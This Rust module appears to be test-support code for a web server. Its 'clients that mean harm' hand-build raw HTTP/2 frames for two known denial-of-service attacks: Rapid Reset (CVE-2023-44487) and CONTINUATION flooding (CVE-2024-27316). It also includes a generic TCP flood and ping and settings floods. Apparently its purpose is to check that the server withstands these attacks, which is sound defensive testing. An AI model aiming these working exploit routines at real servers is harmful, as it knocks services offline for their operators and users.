//! Clients that mean harm.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::time::Duration;

/// A connection on which `request` was sent, and nothing more.
pub(crate) fn begin(address: &str, request: &str) -> TcpStream {
    let mut stream = TcpStream::connect(address).expect("a connection");
    stream.write_all(request.as_bytes()).expect("the request is sent");
    stream
}

/// Sends `start` and then `more` so many times, or until the server has enough.
pub(crate) fn flood(address: &str, start: &str, more: &[u8], times: usize) {
    let mut stream = begin(address, start);
    stream.set_write_timeout(Some(Duration::from_secs(60))).expect("a time-out");
    let _ = (0..times).try_for_each(|_| stream.write_all(more));
}

/// A raw connection of HTTP/2 over TLS, by way of `openssl`.
pub(crate) struct Http2 {
    client: Child,
    input: ChildStdin,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

impl Http2 {
    pub(crate) fn connect(address: &str) -> Http2 {
        let mut client = Command::new("openssl")
            .args(["s_client", "-quiet", "-alpn", "h2", "-connect", address])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("openssl runs");
        let mut output = client.stdout.take().expect("stdout was piped");
        // What the server says is read and forgotten: an attacker who does not read is another one.
        std::thread::spawn(move || {
            let mut buffer = [0; 4096];
            while matches!(output.read(&mut buffer), Ok(1..)) {}
        });
        let input = client.stdin.take().expect("stdin was piped");
        let mut http2 = Http2 { client, input };
        http2.send(PREFACE);
        http2.send(&settings());
        http2
    }

    pub(crate) fn send(&mut self, frames: &[u8]) {
        // The server may have had enough.
        let _ = self.input.write_all(frames);
    }

    /// Sends what `frames` gives for each stream until the server closes; whether it did within `times`.
    pub(crate) fn send_until_closed(&mut self, frames: impl Fn(u32) -> Vec<u8>, times: u32) -> bool {
        for number in 0..times {
            if self.input.write_all(&frames(2 * number + 1)).is_err() {
                return true;
            }
        }
        // What was sent last is still on its way.
        (0..250).any(|_| {
            std::thread::sleep(Duration::from_millis(20));
            self.client.try_wait().is_ok_and(|ended| ended.is_some())
        })
    }
}

impl Drop for Http2 {
    fn drop(&mut self) {
        // It may have ended with its connection.
        let _ = self.client.kill();
        let _ = self.client.wait();
    }
}

/// A request that is taken back at once (CVE-2023-44487).
pub(crate) fn reset_stream(stream: u32, path: &str) -> Vec<u8> {
    let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields(path));
    frames.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    frames
}

/// The beginning of a head that goes on (CVE-2024-27316).
pub(crate) fn headers_without_end(path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM, 1, &fields(path))
}

/// More of it: a field of a kilobyte.
pub(crate) fn continuation() -> Vec<u8> {
    let mut field = vec![0x00, 1, b'x', 0x7f, 0x81, 0x07];
    field.extend([b'y'; 1024]);
    frame(CONTINUATION, 0, 1, &field)
}

/// Settings that have to be acknowledged.
pub(crate) fn settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

/// A ping that has to be answered.
pub(crate) fn ping() -> Vec<u8> {
    frame(PING, 0, 0, &[0; 8])
}

/// RFC 9113, section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a small frame").to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// GET over https for this path (RFC 7541: indexed fields of the static table, then literals without an index).
fn fields(path: &str) -> Vec<u8> {
    let mut fields = vec![0x82, 0x87, 0x04, u8::try_from(path.len()).expect("a short path")];
    fields.extend(path.as_bytes());
    fields.extend([0x01, 1, b'x']);
    fields
}
